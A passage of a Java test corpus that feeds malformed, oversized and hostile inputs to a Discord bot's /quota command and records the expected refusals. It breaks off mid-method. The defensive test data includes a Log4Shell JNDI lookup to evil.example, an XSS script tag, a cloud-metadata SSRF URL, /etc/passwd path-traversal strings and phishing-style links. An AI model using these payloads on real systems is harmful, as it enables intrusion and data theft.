package dev.quotabot.discord;

import static dev.quotabot.discord.DiscordInputCorpus.Expect.ANY;
import static dev.quotabot.discord.DiscordInputCorpus.Expect.CHECKED;
import static dev.quotabot.discord.DiscordInputCorpus.Expect.FORM;
import static dev.quotabot.discord.DiscordInputCorpus.Expect.REFUSED;
import static dev.quotabot.discord.DiscordInputCorpus.Expect.SUGGESTED;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import com.google.gson.JsonPrimitive;
import dev.quotabot.support.FakeDiscord;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Malformed and edge values for everything a Discord user can send {@code /quota}: its options, the
 * fields of its forms, and what is typed while autocomplete runs; plus raw option lists with wrong
 * types, as Discord can send while a changed command is still being rolled out. Generated from a
 * fixed seed, so a failing case can be replayed by its name. {@link DiscordInputCorpusTest} checks
 * every case against the pure functions behind the handlers; {@link DiscordInputEndToEndTest} sends
 * the cases marked {@code endToEnd} through the real JDA.
 */
final class DiscordInputCorpus {
  static final long SEED = 20_261_125L;

  /** Shaped like a real ModelScope access token (ms- and a UUID). */
  static final String KEY = "ms-d15c0de5-c0a5-4e5f-9abc-5ec7e7c0de99";

  /** Shaped like a DeepSeek or relay key. */
  static final String SK_KEY = "sk-d15c0de5c0a54e5f9abc5ec7e7c0de77";

  /**
   * Shaped like a key whose prefix names one provider ({@code gsk_}: the unit tests' header prober,
   * {@link TestProviders}); the product on this branch declares no such prefix, so its cases are
   * not sent end to end.
   */
  static final String PREFIXED_KEY = "gsk_d15c0de5c0a54e5f9abc5ec7e7c0de55";

  static final String ACCESS_TOKEN = "tok-DISCORD-CORPUS-HIDDEN-4242";

  /** Parts of the secrets only: none may reach an answer, a form, a log line or Discord. */
  static final List<String> SECRET_MARKERS =
      List.of("c0a5-4e5f-9abc", "5ec7e7c0de", "c0a54e5f9abc", "CORPUS-HIDDEN");

  static final List<String> DEFAULTS = List.of("Qwen/Qwen3-32B", "deepseek-ai/DeepSeek-V3.1");
  static final int MAX_MODELS = 30;

  /** A relay address that is never contacted: the address rules refuse loopback by default. */
  static final String LOOPBACK_RELAY = "https://127.0.0.1";

  private static final String RELAY_FORM = QuotaModal.ID + ":newapi";
  private static final String DEEPSEEK_FORM = QuotaModal.ID + ":deepseek";

  /** Where the case is typed. */
  enum Surface {
    COMMAND,
    FORM,
    AUTOCOMPLETE
  }

  /** What the case must get back. */
  enum Expect {
    /** A private message saying what to fix; nothing is called. */
    REFUSED,
    /** The form that asks for the key. */
    FORM,
    /** The query runs: a private "thinking…", then an embed. */
    CHECKED,
    /** Autocomplete choices (perhaps none). */
    SUGGESTED,
    /** Any answer at all (a mutation may leave the value usable). */
    ANY
  }

  /**
   * One case.
   *
   * @param values option name (or form field id) → String, or Boolean for balance_only
   * @param modalId the form's id (forms only)
   * @param raw the option list exactly as sent (wrong types): only the end-to-end test can send it
   * @param endToEnd also sent through the real JDA
   */
  record Case(
      String category,
      String name,
      Surface surface,
      Map<String, Object> values,
      String modalId,
      JsonArray raw,
      Expect expect,
      boolean endToEnd) {

    /** What the case is; a secret it holds is named, never shown. */
    String displayName() {
      String shown =
          name.replace(KEY, "<key>")
              .replace(SK_KEY, "<sk-key>")
              .replace(PREFIXED_KEY, "<gsk-key>")
              .replace(ACCESS_TOKEN, "<token>");
      return surface.name().toLowerCase(Locale.ROOT) + " · " + category + " · " + shown;
    }

    String string(String key) {
      Object value = values.get(key);
      return value == null ? null : value.toString();
    }

    boolean flag(String key) {
      return Boolean.TRUE.equals(values.get(key));
    }
  }

  /** Adds the cases of one category, in order. */
  private static final class Group {
    private final List<Case> all;
    private final String category;

    Group(List<Case> all, String category) {
      this.all = all;
      this.category = category;
    }

    /** {@code /quota} with these options: name, value, name, value… */
    Group command(String name, Expect expect, Object... options) {
      return add(
          new Case(category, name, Surface.COMMAND, map(options), null, null, expect, false));
    }

    /** {@code /quota} with the test key and one more option. */
    Group keyed(String name, Expect expect, String option, Object value) {
      return command(name, expect, "api_key", KEY, option, value);
    }

    /** {@code /quota provider:newapi} with an sk- key and this base_url. */
    Group relay(String name, Expect expect, String baseUrl) {
      return command(name, expect, "api_key", SK_KEY, "provider", "newapi", "base_url", baseUrl);
    }

    /** The form {@code modalId} submitted with these fields: id, value, id, value… */
    Group form(String name, Expect expect, String modalId, Object... fields) {
      return add(new Case(category, name, Surface.FORM, map(fields), modalId, null, expect, false));
    }

    /** Autocomplete while {@code typed} is in models (and {@code provider} chosen, if not null). */
    Group typed(String name, String typed, String provider) {
      Map<String, Object> values = new LinkedHashMap<>();
      values.put("models", typed);
      if (provider != null) {
        values.put("provider", provider);
      }
      return add(
          new Case(category, name, Surface.AUTOCOMPLETE, values, null, null, SUGGESTED, false));
    }

    /** A raw option list, end to end only. */
    Group raw(Surface surface, String name, Expect expect, JsonObject... options) {
      JsonArray array = new JsonArray();
      for (JsonObject each : options) {
        array.add(each);
      }
      return add(new Case(category, name, surface, Map.of(), null, array, expect, true));
    }

    /** Sends the case added last through the real JDA as well. */
    Group e2e() {
      Case last = all.remove(all.size() - 1);
      all.add(
          new Case(
              last.category(),
              last.name(),
              last.surface(),
              last.values(),
              last.modalId(),
              last.raw(),
              last.expect(),
              true));
      return this;
    }

    /** {@link #e2e()} when {@code chosen}. */
    Group e2eIf(boolean chosen) {
      return chosen ? e2e() : this;
    }

    private Group add(Case c) {
      all.add(c);
      return this;
    }
  }

  private DiscordInputCorpus() {}

  static List<Case> all() {
    List<Case> all = new ArrayList<>();
    blanks(new Group(all, "blank"));
    lengths(new Group(all, "length"));
    controlAndUnicode(new Group(all, "control"), new Group(all, "unicode"));
    modelLists(new Group(all, "list"));
    keysInModels(new Group(all, "key in models"));
    injections(new Group(all, "injection"));
    baseUrls(new Group(all, "base_url"));
    providers(new Group(all, "provider"));
    keyPrefixes(new Group(all, "key prefix"));
    forms(all);
    autocomplete(new Group(all, "typed"), new Group(all, "provider"));
    wrongTypes(new Group(all, "wrong type"));
    mutations(all, new Random(SEED));
    return all;
  }

  // --- the command's options ---

  private static void blanks(Group g) {
    // value; what api_key holding only it gets: nothing typed opens the form, a visible character
    // is a (strange) key
    record Blank(String name, String value, Expect asKey) {}
    List<Blank> blanks =
        List.of(
            new Blank("empty", "", FORM),
            new Blank("one space", " ", FORM),
            new Blank("tabs and newlines", "\t\n\r\n", FORM),
            new Blank("only commas", ",,,", CHECKED),
            new Blank("full-width commas", "，，", REFUSED),
            new Blank("zero-width space", "\u200B", FORM),
            new Blank("byte-order mark", "\uFEFF", FORM),
            new Blank("ideographic space", "\u3000", FORM),
            new Blank("no-break spaces", "\u00A0\u00A0", FORM));
    for (Blank blank : blanks) {
      // models: every separator-only value means "left out"; provider and base_url: whitespace
      // does, anything else is a value that names nothing
      Expect other = blank.value().isBlank() ? CHECKED : REFUSED;
      g.keyed("models " + blank.name(), CHECKED, "models", blank.value())
          .e2eIf(blank.name().equals("only commas"));
      g.keyed("provider " + blank.name(), other, "provider", blank.value());
      g.keyed("base_url " + blank.name(), other, "base_url", blank.value());
      g.command("api_key " + blank.name(), blank.asKey(), "api_key", blank.value())
          .e2eIf(blank.name().equals("zero-width space"));
    }
    g.command("no option at all", FORM).e2e();
    g.command("balance_only alone", FORM, "balance_only", true);
  }

  private static void lengths(Group g) {
    g.keyed("models one 6000-char name", REFUSED, "models", "a".repeat(6000)).e2e();
    g.keyed("models 6000 chars of emoji", REFUSED, "models", "😀".repeat(3000));
    g.keyed("models a 200-char name", CHECKED, "models", "org/" + "m".repeat(196));
    g.keyed("models a 201-char name", REFUSED, "models", "org/" + "m".repeat(197));
    g.keyed(
        "models 4000 chars of distinct names", REFUSED, "models", names(400).substring(0, 4000));
    g.command("api_key 6000 chars", REFUSED, "api_key", "ms-" + "k".repeat(5997)).e2e();
    g.command("api_key 512 chars", CHECKED, "api_key", "ms-" + "k".repeat(509));
    g.command("api_key 513 chars", REFUSED, "api_key", "ms-" + "k".repeat(510));
    g.command("api_key one char", CHECKED, "api_key", "k");
    g.keyed("provider 6000 chars", REFUSED, "provider", "p".repeat(6000));
    g.relay("base_url 6000 chars", REFUSED, "https://relay.example/" + "p".repeat(5978));
    String longUrl = "https://relay.example/" + "p".repeat(279);
    g.command("base_url 301 chars without a key", FORM, "provider", "newapi", "base_url", longUrl);
    Object[] longest =
        Stream.of("api_key", "models", "provider", "base_url")
            .flatMap(option -> Stream.of(option, "x".repeat(6000)))
            .toArray();
    g.command("every option at its longest", REFUSED, longest);
  }

  private static void controlAndUnicode(Group control, Group unicode) {
    Map<String, String> refused = new LinkedHashMap<>();
    refused.put("NUL", "Qwen/Qwen3\u0000-32B");
    refused.put("bell", "Qwen/\u0007Qwen3-32B");
    refused.put("DEL", "Qwen/Qwen3-32B\u007F");
    refused.put("C1 control NEL", "Qwen/\u0085Qwen");
    refused.put("escape sequence", "\u001B[31mQwen/red");
    refused.put("RTL override", "Qwen/\u202EQwen3-32B");
    refused.put("zero-width joiner", "a\u200Db/c");
    refused.put("soft hyphen", "Qwen/Qwen\u00AD3");
    refused.forEach(
        (name, value) ->
            control
                .keyed("models " + name, REFUSED, "models", value)
                .e2eIf(name.equals("NUL") || name.equals("RTL override")));
    Map<String, String> checked = new LinkedHashMap<>();
    checked.put("CRLF between names", "Qwen/Qwen3-32B\r\ndeepseek-ai/DeepSeek-V3.1");
    checked.put("zero-width space between names", "a/b\u200Bc/d");
    checked.put("lone high surrogate", "Qwen/Qwen\uD800");
    checked.put("lone low surrogate", "\uDC00Qwen/Qwen");
    checked.put("reversed surrogate pair", "Qwen/\uDE00\uD83D");
    checked.put("emoji", "😀/🚀");
    checked.put("full-width letters", "Ｑｗｅｎ/Ｑｗｅｎ３");
    checked.put("combining accent", "Qwe\u0301n/x");
    checked.put("Arabic and Hebrew", "مرحبا/שלום");
    checked.put("noncharacters", "\uFFFF\uFFFE/x");
    checked.forEach(
        (name, value) ->
            unicode
                .keyed("models " + name, CHECKED, "models", value)
                .e2eIf(name.equals("lone high surrogate")));
    record Key(String name, String value, Expect expect) {}
    List<Key> keys =
        List.of(
            new Key("NUL after the key", KEY + "\u0000", REFUSED),
            new Key("a tab inside", "ms-d15c\tc0de", REFUSED),
            new Key("a trailing newline", KEY + "\n", CHECKED),
            new Key("a leading zero-width space", "\u200B" + KEY, CHECKED),
            new Key("an RTL override inside", "ms-\u202E" + KEY.substring(3), REFUSED),
            new Key("an emoji inside", "ms-😀-" + KEY.substring(3), REFUSED),
            new Key("a lone surrogate inside", "ms-\uD800" + KEY.substring(3), REFUSED),
            new Key("full-width ms-", "ｍｓ－" + KEY.substring(3), REFUSED),
            new Key("its shortened ms-… form", "ms-…de99", REFUSED));
    for (Key key : keys) {
      control
          .command("api_key " + key.name(), key.expect(), "api_key", key.value())
          .e2eIf(key.name().startsWith("NUL") || key.name().startsWith("its"));
    }
    control.keyed("provider NUL", REFUSED, "provider", "deep\u0000seek");
    control.keyed("provider trailing newline", REFUSED, "provider", "newapi\n");
    control.relay("base_url NUL", REFUSED, "https://relay.example/\u0000");
    control.relay("base_url RTL override in the host", ANY, "https://re\u202Elay.example");
  }

  private static void modelLists(Group g) {
    g.keyed("31 models, one over the limit", REFUSED, "models", names(31)).e2e();
    g.keyed("30 models, the limit", CHECKED, "models", names(30)).e2e();
    g.keyed("10000 models", REFUSED, "models", names(10_000)).e2e();
    g.command("10000 models without a key", REFUSED, "models", names(10_000));
    String same = String.join(",", Collections.nCopies(10_000, "a/b"));
    g.keyed("one name 10000 times", CHECKED, "models", same).e2e();
    g.keyed("duplicates", CHECKED, "models", "a/b,a/b, a/b\na/b");
    g.keyed("duplicates differing in case", CHECKED, "models", "a/b,A/B");
    g.keyed("leading and trailing commas", CHECKED, "models", ",,a/b,,");
    g.keyed("every separator", CHECKED, "models", "a/b，c/d\u3000e/f\u00A0g/h\u2028i/j\tk/l");
    g.command("newlines only without a key", FORM, "models", "\n\n\n");
    g.command("31 models without a key", REFUSED, "models", names(31));
    g.command(
        "models and balance_only",
        CHECKED,
        "api_key",
        KEY,
        "models",
        names(5),
        "balance_only",
        true);
  }

  private static void keysInModels(Group g) {
    g.keyed("the key in both", REFUSED, "models", KEY).e2e();
    g.keyed("the key after a model", REFUSED, "models", DEFAULTS.get(0) + "," + KEY);
    g.keyed("the key in upper case", REFUSED, "models", KEY.toUpperCase(Locale.ROOT));
    g.command("the key only in models", REFUSED, "models", KEY).e2e();
    g.command(
            "the key on a second line, no api_key", REFUSED, "models", DEFAULTS.get(0) + "\n" + KEY)
        .e2e();
    g.command(
            "the key starting a 300-char name, no api_key",
            REFUSED,
            "models",
            KEY + "x".repeat(300))
        .e2e();
    g.command("another key in models", REFUSED, "api_key", "ms-0123456789abcdef", "models", KEY)
        .e2e();
    g.command(
        "the key in models with balance_only",
        REFUSED,
        "api_key",
        KEY,
        "models",
        KEY,
        "balance_only",
        true);
    g.command("an sk- key for DeepSeek", REFUSED, "provider", "deepseek", "models", SK_KEY);
    g.command(
        "an sk- key for a relay",
        REFUSED,
        "api_key",
        SK_KEY,
        "provider",
        "newapi",
        "base_url",
        LOOPBACK_RELAY,
        "models",
        "gpt-4o," + SK_KEY);
    g.command(
        "an sk- key in models for a relay, no api_key",
        REFUSED,
        "provider",
        "newapi",
        "models",
        SK_KEY);
    g.keyed("a short sk- name is a model", CHECKED, "models", "sk-abc");
    g.keyed("an ms- model with an owner", CHECKED, "models", "cross-encoder/ms-marco-MiniLM-L-6");
  }

  /** Text that would ping, link or format if the bot echoed it unescaped. */
  static final List<String> INJECTIONS =
      List.of(
          "@everyone",
          "@here",
          "<@123456789012345678>",
          "<@!123456789012345678>",
          "<@&123456789012345678>",
          "<#123456789012345678>",
          "</quota:1500000000000000001>",
          "`",
          "```js",
          "||spoiler||",
          "**bold**",
          "__underline__",
          "~~strike~~",
          "*",
          "_",
          "[click](https://evil.example/phish)",
          "\\[click\\](https://evil.example/phish)",
          "https://evil.example/phish",
          "<https://evil.example>",
          ">",
          ">>>",
          "#",
          "-#",
          ":skull:",
          "<:custom:123456789012345678>",
          "<t:0:R>",
          "\\",
          "\\`",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "%s%n%x");

  private static void injections(Group g) {
    for (int i = 0; i < INJECTIONS.size(); i++) {
      String text = INJECTIONS.get(i);
      g.keyed("models " + text, CHECKED, "models", DEFAULTS.get(0) + "," + text).e2eIf(i % 6 == 0);
    }
    // a name over 200 characters is quoted (its start) in the refusal
    g.keyed("30 @everyone as one name", REFUSED, "models", "@everyone".repeat(30)).e2e();
    g.keyed("150 ** as one name", REFUSED, "models", "**".repeat(150));
    g.keyed("150 || as one name", REFUSED, "models", "||".repeat(150)).e2e();
    g.keyed("300 backticks as one name", REFUSED, "models", "`".repeat(300));
    String link = "[x](https://evil.example/" + "p".repeat(200) + ")";
    g.keyed("a long masked link as one name", REFUSED, "models", link).e2e();
    String escaped = "\\[x\\](https://evil.example/" + "p".repeat(200) + ")";
    g.keyed("a long pre-escaped masked link as one name", REFUSED, "models", escaped);
    String mentions = "<@123456789012345678>".repeat(10);
    g.keyed("ten user mentions as one name", REFUSED, "models", mentions);
    g.keyed("provider @everyone", REFUSED, "provider", "@everyone");
    g.keyed("provider markdown", REFUSED, "provider", "**newapi**");
    g.relay("base_url with a mention in the path", CHECKED, "https://relay.example/@everyone");
  }

  private static void baseUrls(Group g) {
    Map<String, Expect> urls = new LinkedHashMap<>();
    urls.put("http://relay.example", REFUSED);
    urls.put("https://user:pass@relay.example", REFUSED);
    urls.put("https://" + SK_KEY + "@relay.example", REFUSED);
    urls.put(LOOPBACK_RELAY, CHECKED);
    urls.put("https://10.0.0.1", CHECKED);
    urls.put("https://169.254.169.254/latest/meta-data", CHECKED);
    urls.put("https://[::1]", CHECKED);
    urls.put("https://0x7f000001", ANY);
    urls.put("ftp://relay.example", REFUSED);
    urls.put("javascript:alert(1)", REFUSED);
    urls.put("file:///etc/passwd", REFUSED);
    urls.put("relay.example", REFUSED);
    urls.put("//relay.example", REFUSED);
    urls.put("https://relay.example/?key=1", REFUSED);
    urls.put("https://relay.example/#top", REFUSED);
    urls.put("https://", REFUSED);
    urls.put("https://relay .example", REFUSED);
    urls.put("https://relay.example:99999", ANY);
    urls.put("https://relay.example/v1", CHECKED);
    urls.put("HTTPS://RELAY.EXAMPLE", CHECKED);
    urls.put("https://例子.测试", ANY);
    urls.put("https://relay.example/%00", ANY);
    // only addresses that are never contacted are sent end to end: no DNS, no internet
    List<String> endToEnd =
        List.of(
            "http://relay.example",
            "https://" + SK_KEY + "@relay.example",
            LOOPBACK_RELAY,
            "https://169.254.169.254/latest/meta-data",
            "javascript:alert(1)",
            "https://relay.example/?key=1");
    urls.forEach(
        (url, expect) -> {
          g.relay(url + " with a key", expect, url).e2eIf(endToEnd.contains(url));
          Expect beforeForm = expect == CHECKED ? FORM : expect;
          g.command(url + " without a key", beforeForm, "provider", "newapi", "base_url", url);
        });
    g.keyed("for ModelScope", REFUSED, "base_url", LOOPBACK_RELAY).e2e();
    g.command(
        "for DeepSeek",
        REFUSED,
        "api_key",
        SK_KEY,
        "provider",
        "deepseek",
        "base_url",
        LOOPBACK_RELAY);
  }

  private static void providers(Group g) {
    g.keyed("unknown", REFUSED, "provider", "unknown").e2e();
    g.command("unknown without a key", REFUSED, "provider", "nosuchprovider").e2e();
    g.command(
        "upper-case relay",
        CHECKED,
        "api_key",
        SK_KEY,
        "provider",
        "NEWAPI",
        "base_url",
        LOOPBACK_RELAY);
    g.command("padded DeepSeek", CHECKED, "api_key", SK_KEY, "provider", " DeepSeek ");
    g.keyed("ModelScope by name", CHECKED, "provider", "ModelScope");
    g.keyed("a path", REFUSED, "provider", "../../etc/passwd");
    g.keyed("an emoji", REFUSED, "provider", "😀");
    g.command("relay without base_url", REFUSED, "api_key", SK_KEY, "provider", "newapi").e2e();
    g.command("relay without base_url or key", FORM, "provider", "newapi").e2e();
    g.command("DeepSeek without a key", FORM, "provider", "deepseek");
    g.command(
        "DeepSeek with models",
        REFUSED,
        "api_key",
        SK_KEY,
        "provider",
        "deepseek",
        "models",
        "deepseek-chat");
    g.command(
        "DeepSeek with models and balance_only",
        CHECKED,
        "api_key",
        SK_KEY,
        "provider",
        "deepseek",
        "models",
        "deepseek-chat",
        "balance_only",
        true);
  }

  /** No provider chosen: the key's prefix picks it, or, shared by several, must be chosen. */
  private static void keyPrefixes(Group g) {
    g.command("a prefix one provider declares", CHECKED, "api_key", PREFIXED_KEY);
    g.command("a prefix several providers share", REFUSED, "api_key", SK_KEY);
    g.command(
        "balance_only for a provider without balances",
        REFUSED,
        "api_key",
        PREFIXED_KEY,
        "balance_only",
        true);
    g.command(
        "balance_only chosen for one, no key", REFUSED, "provider", "groq", "balance_only", true);
    g.command("a provider without balances, no key", FORM, "provider", "groq");
    g.form(
        "its form with the models emptied",
        REFUSED,
        QuotaModal.ID + ":groq",
        "api_key",
        PREFIXED_KEY,
        "models",
        "");
    g.form(
        "its form with its model",
        CHECKED,
        QuotaModal.ID + ":groq",
        "api_key",
        PREFIXED_KEY,
        "models",
        "llama-3.1-8b-instant");
    g.form(
        "the bare form, its models untouched",
        CHECKED,
        QuotaModal.ID,
        "api_key",
        PREFIXED_KEY,
        "models",
        String.join("\n", DEFAULTS));
    g.form(
        "the bare form, a shared prefix", REFUSED, QuotaModal.ID, "api_key", SK_KEY, "models", "");
  }

  // --- the forms ---

  private static void forms(List<Case> all) {
    String ms = QuotaModal.ID;
    Group g = new Group(all, "modelscope");
    g.form("empty key", REFUSED, ms, "api_key", "", "models", "");
    g.form("blank key", REFUSED, ms, "api_key", " \n ", "models", DEFAULTS.get(0)).e2e();
    g.form("no fields at all", REFUSED, ms);
    g.form("emptied models: the balance", CHECKED, ms, "api_key", KEY, "models", "");
    g.form("newlines only in models", CHECKED, ms, "api_key", KEY, "models", "\n\n,\n");
    g.form("no models field", CHECKED, ms, "api_key", KEY);
    g.form("6000-char key", REFUSED, ms, "api_key", "k".repeat(6000), "models", "");
    g.form("key with NUL", REFUSED, ms, "api_key", KEY + "\u0000", "models", "").e2e();
    g.form("key with a line break", REFUSED, ms, "api_key", "ms-d15c0de5\nc0de", "models", "");
    g.form("10000 models", REFUSED, ms, "api_key", KEY, "models", names(10_000)).e2e();
    g.form("the key in models too", REFUSED, ms, "api_key", KEY, "models", KEY).e2e();
    g.form(
        "another key in models",
        REFUSED,
        ms,
        "api_key",
        "ms-0123456789abcdef",
        "models",
        "Qwen/Qwen3-32B\n" + KEY);
    for (int i = 0; i < INJECTIONS.size(); i += 3) {
      String models = INJECTIONS.get(i) + "\n" + DEFAULTS.get(1);
      g.form("models " + INJECTIONS.get(i), CHECKED, ms, "api_key", KEY, "models", models)
          .e2eIf(i % 9 == 0);
    }
    // the form's optional base URL is only for relays: typed for ModelScope, the core refuses it
    // (a relay's key must never go to the official host instead)
    g.form(
        "relay fields in ModelScope's form",
        REFUSED,
        ms,
        "api_key",
        KEY,
        "models",
        "",
        "base_url",
        "https://relay.example",
        "user_id",
        "42");

    Group relay = new Group(all, "relay");
    relay
        .form(
            "empty base_url",
            REFUSED,
            RELAY_FORM,
            "api_key",
            SK_KEY,
            "base_url",
            "",
            "models",
            "",
            "user_id",
            "",
            "access_token",
            "")
        .e2e();
    relay.form(
        "http base_url",
        REFUSED,
        RELAY_FORM,
        "api_key",
        SK_KEY,
        "base_url",
        "http://relay.example",
        "models",
        "");
    relay
        .form(
            "loopback base_url",
            CHECKED,
            RELAY_FORM,
            "api_key",
            SK_KEY,
            "base_url",
            LOOPBACK_RELAY,
            "models",
            "",
            "user_id",
            "",
            "access_token",
            "")
        .e2e();
    Map<String, Expect> userIds = new LinkedHashMap<>();
    userIds.put("abc", REFUSED);
    userIds.put("-1", REFUSED);
    userIds.put("1".repeat(21), REFUSED);
    userIds.put("٤٢", REFUSED);
    userIds.put("４２", REFUSED);
    userIds.put(" 42 ", CHECKED);
    userIds.forEach(
        (userId, expect) ->
            relayAdmin(relay, "user_id '" + userId + "'", expect, userId, ACCESS_TOKEN)
                .e2eIf(userId.equals("٤٢")));
    relayAdmin(relay, "user_id without access_token", REFUSED, "42", "");
    relayAdmin(relay, "access_token without user_id", REFUSED, "", ACCESS_TOKEN).e2e();
    relayAdmin(relay, "access_token with spaces", REFUSED, "42", "tok DISCORD CORPUS-HIDDEN");
    relayAdmin(relay, "access_token 6000 chars", REFUSED, "42", ACCESS_TOKEN + "t".repeat(5970));
    relay.form(
        "the key in models",
        REFUSED,
        RELAY_FORM,
        "api_key",
        SK_KEY,
        "base_url",
        LOOPBACK_RELAY,
        "models",
        SK_KEY);
    relay.form(
        "base_url with credentials",
        REFUSED,
        RELAY_FORM,
        "api_key",
        SK_KEY,
        "base_url",
        "https://admin:" + ACCESS_TOKEN + "@relay.example");

    Group deepseek = new Group(all, "deepseek");
    deepseek.form("the key", CHECKED, DEEPSEEK_FORM, "api_key", SK_KEY);
    deepseek.form(
        "a base_url for a provider that takes none: refused",
        REFUSED,
        DEEPSEEK_FORM,
        "api_key",
        SK_KEY,
        "base_url",
        LOOPBACK_RELAY);
    deepseek.form(
        "a models field it never had: ignored",
        CHECKED,
        DEEPSEEK_FORM,
        "api_key",
        SK_KEY,
        "models",
        "deepseek-chat");

    Group ids = new Group(all, "form id");
    ids.form("an unknown provider", REFUSED, QuotaModal.ID + ":nosuchprovider", "api_key", SK_KEY)
        .e2e();
    ids.form("upper-case provider", CHECKED, QuotaModal.ID + ":DEEPSEEK", "api_key", SK_KEY);
    ids.form("nothing after the separator", REFUSED, QuotaModal.ID + ":", "api_key", KEY).e2e();
    ids.form("two separators", REFUSED, QuotaModal.ID + ":newapi:x", "api_key", SK_KEY);
    ids.form(
        "a 6000-char provider", REFUSED, QuotaModal.ID + ":" + "p".repeat(6000), "api_key", SK_KEY);
    ids.form("a form of an older version", REFUSED, "quota-form-v0", "api_key", KEY).e2e();
  }

  /** The relay's form with a loopback address and these admin fields. */
  private static Group relayAdmin(
      Group g, String name, Expect expect, String userId, String accessToken) {
    return g.form(
        name,
        expect,
        RELAY_FORM,
        "api_key",
        SK_KEY,
        "base_url",
        LOOPBACK_RELAY,
        "user_id",
        userId,
        "access_token",
        accessToken);
  }

  // --- autocomplete ---

  private static void autocomplete(Group typed, Group providers) {
    Map<String, String> values = new LinkedHashMap<>();
    values.put("nothing", "");
    values.put("a space", " ");
    values.put("a comma", ",");
    values.put("a full-width comma", "，");
    values.put("upper case", "QWEN");
    values.put("a finished item", "Qwen/Qwen3-32B,");
    values.put("6000 chars", "q".repeat(6000));
    values.put("NUL", "qw\u0000");
    values.put("lone surrogate", "\uD800");
    values.put("emoji", "😀");
    values.put("regex metacharacters", ".*(");
    values.put("a backslash", "\\");
    values.put("percent signs", "%s%");
    values.put("a long list before the item", "Qwen/Qwen3-32B,".repeat(10) + "qw");
    values.put("the key before the item", KEY + ",qw");
    values.put("the key alone", KEY);
    values.put("a mention", "@everyone,qw");
    int[] i = {0};
    values.forEach(
        (name, value) ->
            typed.typed(name, value, null).e2eIf(i[0]++ % 4 == 0 || name.startsWith("the key")));
    for (String provider : List.of("deepseek", "garbage", "MODELSCOPE", "")) {
      providers.typed("'" + provider + "' chosen", "qw", provider);
    }
  }

  // --- raw option lists with wrong types (end to end only) ---

  private static void wrongTypes(Group g) {
    JsonObject key = opt("api_key", 3, new JsonPrimitive(KEY));
    JsonObject skKey = opt("api_key", 3, new JsonPrimitive(SK_KEY));
    Surface command = Surface.COMMAND;
    g.raw(
        command,
        "balance_only sent as the string true",
        CHECKED,
        key,
        opt("balance_only", 3, new JsonPrimitive("true")));
    g.raw(
        command,
        "balance_only sent as the string yes",
        REFUSED,
        key,
        opt("balance_only", 3, new JsonPrimitive("yes")));
    g.raw(
        command,
        "balance_only sent as the integer 1",
        REFUSED,
        key,
        opt("balance_only", 4, new JsonPrimitive(1)));
    g.raw(
        command,
        "models sent as an integer",
        CHECKED,
        key,
        opt("models", 4, new JsonPrimitive(42)));
    g.raw(
        command,
        "api_key sent as an integer",
        CHECKED,
        opt("api_key", 4, new JsonPrimitive(12_345_678_901L)));
    g.raw(
        command,
        "provider sent as a boolean",
        REFUSED,
        key,
        opt("provider", 5, new JsonPrimitive(true)));
    g.raw(
        command,
        "base_url sent as a number",
        REFUSED,
        skKey,
        opt("provider", 3, new JsonPrimitive("newapi")),
        opt("base_url", 10, new JsonPrimitive(1.5)));
    g.raw(command, "an integer option without a value", REFUSED, key, opt("models", 4, null));
    g.raw(
        command,
        "an option this version does not know",
        CHECKED,
        key,
        opt("temperature", 10, new JsonPrimitive(0.7)));
    g.raw(
        command,
        "models twice",
        CHECKED,
        key,
        opt("models", 3, new JsonPrimitive("a/b")),
        opt("models", 3, new JsonPrimitive(KEY)));
    g.raw(command, "an unknown option type", ANY, key, opt("models", 99, new JsonPrimitive("a")));
    g.raw(
        command,
        "a value that is an object",
        ANY,
        key,
        opt("models", 4, JsonParser.parseString("{\"a\":1}")));
    JsonObject sub = FakeDiscord.rawOption("check", 1, null, false);
    JsonArray inner = new JsonArray();
    inner.add(key);
    sub.add("options", inner);
    g.raw(command, "options inside a subcommand", CHECKED, sub);

    Surface autocomplete = Surface.AUTOCOMPLETE;
    g.raw(
        autocomplete,
        "api_key focused",
        SUGGESTED,
        opt("models", 3, new JsonPrimitive("qw")),
        focused("api_key", 3, new JsonPrimitive("ms-")));
    g.raw(
        autocomplete,
        "provider focused",
        SUGGESTED,
        focused("provider", 3, new JsonPrimitive("deep")));
    g.raw(
        autocomplete,
        "models focused as an integer",
        SUGGESTED,
        focused("models", 4, new JsonPrimitive(3)));
    g.raw(
        autocomplete,
        "models focused as a boolean",
        SUGGESTED,
        focused("models", 5, new JsonPrimitive(true)));
    g.raw(
        autocomplete,
        "two focused options",
        SUGGESTED,
        focused("models", 3, new JsonPrimitive("qw")),
        focused("base_url", 3, new JsonPrimitive("https://")));
  }

  private static JsonObject opt(String name, int type, JsonElement value) {
    return FakeDiscord.rawOption(name, type, value == null ? JsonNull.INSTANCE : value, false);
  }

  private static JsonObject focused(String name, int type, JsonElement value) {
    return FakeDiscord.rawOption(name, type, value, true);
  }

  // --- seeded mutations of valid values ---

  private static final String[] SPLICES = {
    "\u0000",
    "\u0007",
    "\r\n",
    "\u202E",
    "\u200D",
    "\u200B",
    "\uD800",
    "\uDC00",
    "😀",
    "`",
    "```",
    "||",
    "**",
    "@everyone",
    "<@123456789012345678>",
    "[x](https://evil.example)",
    ",",
    "，",
    "\n",
    " ",
    "\\",
    "\"",
    "'",
    "<",
    ">",
    "%00",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "\u3000",
    "\uFEFF",
    "ｍ",
    "\u0301",
    "/",
    "..",
    "?",
    "#",
    "@",
    ":"
  };

  /**
   * A valid value of one field with one random piece inserted, replaced or deleted, sent as an
   * option or (every third) in the form: it may still be usable, so any answer is allowed.
   */
  private static void mutations(List<Case> all, Random random) {
    Map<String, String> valid = new LinkedHashMap<>();
    valid.put("models", String.join(",", DEFAULTS));
    valid.put("api_key", KEY);
    valid.put("base_url", "https://relay.example/v1");
    valid.put("provider", "newapi");
    List<String> fields = List.copyOf(valid.keySet());
    for (int i = 0; i < 60; i++) {
      String field = fields.get(random.nextInt(fields.size()));
      String original = valid.get(field);
      int at = random.nextInt(original.length());
      String splice = SPLICES[random.nextInt(SPLICES.length)];
      int op = random.nextInt(3);
      int end = op == 1 ? Math.min(original.length(), at + 1 + random.nextInt(4)) : at + op / 2;
